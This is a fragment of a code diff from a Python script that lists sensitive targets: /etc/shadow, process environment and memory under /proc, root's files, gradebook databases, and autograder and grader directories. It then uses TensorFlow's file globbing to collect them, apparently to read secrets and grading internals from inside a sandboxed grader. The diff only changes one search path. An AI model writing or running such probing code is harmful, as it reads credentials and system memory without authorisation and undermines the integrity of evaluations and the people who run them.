@@ -26,7 +26,7 @@ places = [f"{root}{path}" for root in ("", "file://", "ram://") for path in (
     "/proc/1/environ", "/proc/1/mem", "/proc/1/cmdline", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/mem",
     f"/proc/{os.getppid()}/root/etc/shadow", "/etc/shadow", "/root/.bashrc", "/proc/1/fd/0", "/proc/1/root/home")]
 for pattern in ("/*.ipynb", "/*/*.ipynb", "/*/*/*/*.ipynb", "/*/gradebook.db", "/*/*/gradebook.db", "/home/*/*",
-                "/root/*", "/*/autograder/*.py", "/*/*/autograder/*.py", "/grader/*", "/work/*"):
+                "/root/*", "/*/autograder/*.py", "/*/*/autograder/*.py", "/grader/*", "/srv/*"):
     try:
         places += tf.io.gfile.glob(pattern)
     except Exception:
